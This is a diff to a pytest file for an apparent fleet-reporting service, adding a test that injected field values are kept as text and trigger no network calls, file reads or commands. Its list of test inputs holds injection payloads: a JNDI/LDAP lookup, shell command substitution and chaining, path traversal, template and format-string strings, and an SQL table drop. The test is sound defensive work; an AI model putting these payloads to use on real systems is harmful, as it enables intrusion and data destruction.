@@ -1,11 +1,13 @@
-"""S10: replayed, out-of-order and forged reports are refused, and the counts stay exact."""
+"""S10: replayed, out-of-order and forged reports are refused, and the counts stay exact. S03: what they hold is text."""
 import os
+import socket
+import tempfile
 
 import pytest
 
 from harness import messages, programs, wire
 
-report_pb2 = messages.report_pb2
+check_pb2, metadata_pb2, report_pb2 = messages.check_pb2, messages.metadata_pb2, messages.report_pb2
 
 
 @pytest.fixture
@@ -95,3 +97,57 @@ def test_a_node_numbers_what_it_reports_ever_higher(seeder, make_node, release):
     newest, oldest = (attempt.sequence for attempt in node.history())
     assert newest > oldest > 0
     assert counted(seeder, 2)
+
+
+@pytest.fixture
+def short_place():
+    """The path of a directory, short enough for every field of a report."""
+    with tempfile.TemporaryDirectory(prefix="", dir="/tmp") as place:
+        yield place
+
+
+@pytest.mark.networks
+def test_nothing_that_a_report_or_a_check_names_is_fetched_opened_or_run(seeder, pair, short_place):
+    """S03. All that leaves this machine is seen, name servers asked included."""
+    secret, made = f"{short_place}/secret", f"{short_place}/made"
+    with open(secret, "w", encoding="utf-8") as file:
+        file.write("the words of a file on the seeder's machine")
+    lures = ["http://203.0.113.9/x", "https://somebody.example/x", "203.0.113.9:6881", "somebody.example:80",
+             "ftp://203.0.113.9", "\\\\203.0.113.9\\share", "//203.0.113.9/x", "ldap://203.0.113.9/x",
+             "${jndi:ldap://203.0.113.9/x}", "<img src=http://203.0.113.9/x>", f"file://{secret}", secret, f"@{secret}",
+             f"../../../..{secret}", f"$(touch {made})", f"`touch {made}`", f"; touch {made}", f"| touch {made}",
+             f"<(touch {made})", f"%{{touch {made}}}", "{{7*7}}", "%s%n", "'; DROP TABLE fleet_nodes; --"]
+    node, node_id = pair[0], pair[0].status().node_id
+    with wire.Egress() as egress:
+        for number, lure in enumerate(lures, 1):
+            asked = check_pb2.CheckRequest(node_id=node_id, node_name=lure, agent_version=lure,
+                                           platform=metadata_pb2.Platform(os=lure, arch=lure))
+            asked.apps.add(app=lure, channel=lure, version=lure)
+            assert wire.as_node(node, seeder, "/v1/check", asked)[0] == 200, lure
+            told = report_of(node, number, report_pb2.OUTCOME_ROLLED_BACK)
+            told.node_name = told.app = told.from_version = told.to_version = told.detail = lure
+            told.phases.add(phase=lure, milliseconds=1)
+            told.sources.add(address=lure, bytes=1)
+            assert send(seeder, told, node) == 200, lure
+            seeder.daemon.wait("fleet.report", lure)
+            shown = [seeder.call(*words) for words in (["status"], ["status", "--json"], ["node", "list"], ["audit"])]
+            assert lure in {name.name for name in seeder.status().nodes}, "it was taken in, as text"
+            for answer in shown:
+                assert answer.code == 0 and "the words of a file" not in answer.out + answer.err, lure
+    assert egress.sent == []
+    assert os.listdir(short_place) == ["secret"]
+    assert counted(seeder, len(lures))
+
+
+@pytest.mark.networks
+def test_what_leaves_the_machine_is_seen():
+    """The test above would be worth nothing otherwise."""
+    with wire.Egress() as egress:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+            one.sendto(b"x", ("203.0.113.9", 80))
+            one.sendto(b"x", ("127.0.0.53", 53))
+            one.sendto(b"x", ("127.0.0.53", 54))
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as other:
+            other.setblocking(False)
+            other.connect_ex(("203.0.113.10", 80))
+    assert egress.sent == ["203.0.113.9", "127.0.0.53", "203.0.113.10"]
